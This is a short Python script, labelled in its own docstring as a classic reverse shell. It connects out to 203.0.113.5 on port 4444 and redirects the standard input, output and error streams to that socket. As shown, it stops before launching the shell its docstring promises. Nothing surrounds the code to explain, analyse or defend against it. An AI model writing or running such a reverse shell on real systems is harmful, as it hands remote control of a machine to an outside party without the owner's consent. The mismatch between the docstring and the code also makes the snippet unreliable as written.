"""Classic reverse shell: connect out and hand the socket to a shell."""
import os
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.5", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
